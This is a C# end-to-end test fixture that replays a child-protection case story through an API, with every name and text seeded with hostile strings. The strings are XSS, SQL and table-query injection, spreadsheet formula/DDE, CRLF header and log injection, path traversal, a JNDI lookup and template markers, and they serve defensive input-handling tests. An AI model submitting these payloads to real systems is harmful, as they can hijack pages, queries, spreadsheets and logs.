using System.Text.Json.Nodes;
using EndToEnd.Harness;
using EndToEnd.Stories;

namespace EndToEnd;

/// <summary>
/// Scenario S-A as far as its first core group, in which every name and text carries something hostile, names of accounts too. School and
/// police are at the conference, the school alone is in the core group; health has nothing to do with the child.
/// </summary>
public sealed class HostileCaseTold : IAsyncLifetime
{
    public const string Now = "2026-03-10T17:00:00Z";

    /// <summary>In each hostile text; what is not the record must not hold it.</summary>
    public const string Mark = "Zqevil";

    /// <summary>
    /// Each of them breaks something that trusts it: a page, a query, a spreadsheet, a log, a header, a path, a template.
    /// </summary>
    public static IReadOnlyList<string> Texts { get; } =
    [
        $"<script>alert('{Mark}')</script>",
        $"\"><svg onload=alert('{Mark}')>",
        $"' or PartitionKey ne '{Mark}",
        $"'; drop table messages; --{Mark}",
        $"=HYPERLINK(\"http://x/{Mark}\",\"a\")",
        $"+cmd|' /C {Mark}'!A0",
        $"\r\nX-{Mark}: 1\r\n\r\n{Mark}",
        $"\ninfo: ChildProtection[0]\n      {Mark} granted everything",
        $"../../../../{Mark}/..\\..\\{Mark}",
        $"${{jndi:ldap://{Mark}}} {{{{7*7}}}} {{0}} %s%n",
        $"\u200f{Mark}\u2028{Mark}\u0085\ufeff\ud83d\ude00",
    ];

    private Installation? _installation;
    private int _next;

    internal Installation App => _installation!;

    internal Api Api => App.Api;

    internal Story Story { get; } = new(() => throw new InvalidOperationException("The story is told; go on over the API."));

    /// <summary>The child's family name as it was sent.</summary>
    internal string FamilyName { get; private set; } = "";

    /// <summary>Every text that was sent.</summary>
    internal List<string> Sent { get; } = [];

    public async Task InitializeAsync()
    {
        _installation = await Installation.StartAsync(StoryA.Begins);
        try
        {
            var story = new Story(() => Api);
            foreach (var step in StoryA.Steps.TakeWhile(step => string.CompareOrdinal(step.At, Now) < 0))
            {
                var data = Marks.Rewrite(JsonNode.Parse(step.Data), Hostile)!.ToJsonString();
                await story.TellAsync([step with { Data = data, By = step.By with { Name = Hostile(step.By.Name) } }]);
                if (step.Type == "ReferralReceived")
                    FamilyName = JsonNode.Parse(data)!["child"]!["familyName"]!.GetValue<string>();
            }

            Story.Continue(story.CaseId);
            await Api.AdvanceToAsync(Now);
        }
        catch (Exception exception)
        {
            throw new InvalidOperationException(
                $"{exception.Message}{Environment.NewLine}The app said:{Environment.NewLine}{_installation.Output()}", exception);
        }
    }

    public async Task DisposeAsync()
    {
        if (_installation is not null)
            await _installation.DisposeAsync();
    }

    internal BusPlayer Player(string agency) => new(Api, agency);

    /// <summary>Waits until no message is on its way.</summary>
    internal async Task RestAsync() =>
        (await Api.PostAsync("/admin/clock", by: null, """{ "advanceBy": "PT1S" }""")).Expect(System.Net.HttpStatusCode.OK);

    internal Task<IReadOnlyList<JsonNode>> FactsAsync() => Api.ListAsync($"{Story.CasePath}/chronology");

    internal Task<IReadOnlyList<JsonNode>> LettersAsync() => Api.ListAsync("/api/dead-letters", People.Administrator);

    private string Hostile(string text)
    {
        // What begins with a sign is what a spreadsheet takes for a formula; a name begins as it did, so that it can be searched for.
        var evil = Texts[_next++ % Texts.Count];
        var hostile = evil[0] is '=' or '+' ? $"{evil} {text}" : $"{text} {evil}";
        Sent.Add(hostile);
        return hostile;
    }
}

[CollectionDefinition(Name)]
public sealed class HostileCaseCollection : ICollectionFixture<HostileCaseTold>
{
    public const string Name = "The case with hostile texts";
}
